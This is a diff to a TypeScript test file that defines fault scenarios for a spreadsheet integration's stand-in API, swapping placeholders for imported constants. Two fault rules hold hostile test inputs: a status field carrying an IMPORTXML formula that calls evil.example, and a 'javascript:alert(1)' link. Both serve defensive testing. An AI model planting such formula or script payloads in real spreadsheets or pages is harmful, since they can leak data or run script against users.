@@ -1,7 +1,7 @@
 // The fault matrix: each fault alone, then all of them mixed at random rates. A scenario says what the stand-in
 // does wrong (fault rules), what the host does wrong (a fetchAll that throws, its answer to an open question),
 // and what the user does meanwhile (executions killed, rows sorted between executions).
-import type { FaultRule } from "../../dev/stand-in/faults.js";
+import { ECHO_API_KEY, ECHO_RUN_ID, type FaultRule } from "../../dev/stand-in/faults.js";
 import type { RowIntent } from "./sheet.js";
 
 /** Rate of faults for the scenarios of one fault alone: the harsher of the two mixed rates. */
@@ -117,12 +117,12 @@ const TRANSIENT: Record<string, (p: number) => FaultRule[]> = {
       rule("", false),
       // The run, with a 60,000-character status: more than a cell holds.
       rule(
-        `{"object":"workflow_run","id":"{{runId}}","status":"${"S".repeat(60_000)}","dashboardUrl":"https://dashboard.extend.ai/workflows/{{runId}}"}`,
+        `{"object":"workflow_run","id":"${ECHO_RUN_ID}","status":"${"S".repeat(60_000)}","dashboardUrl":"https://dashboard.extend.ai/workflows/${ECHO_RUN_ID}"}`,
         true,
       ),
       // The run, with a status that is a formula and a link that is not a web address.
       rule(
-        '{"object":"workflow_run","id":"{{runId}}","status":"=IMPORTXML(\\"https://evil.example\\",\\"//a\\")","dashboardUrl":"javascript:alert(1)"}',
+        `{"object":"workflow_run","id":"${ECHO_RUN_ID}","status":"=IMPORTXML(\\"https://evil.example\\",\\"//a\\")","dashboardUrl":"javascript:alert(1)"}`,
         true,
       ),
     ];
@@ -143,7 +143,7 @@ function stopRules(intents: readonly RowIntent[], which: ("401" | "402")[]): Fau
       ? {
           kind: "status",
           status: 401,
-          message: "Invalid API key {{apiKey}}: the key was revoked.",
+          message: `Invalid API key ${ECHO_API_KEY}: the key was revoked.`,
           match: { runId: at?.runId ?? "" },
         }
       : {
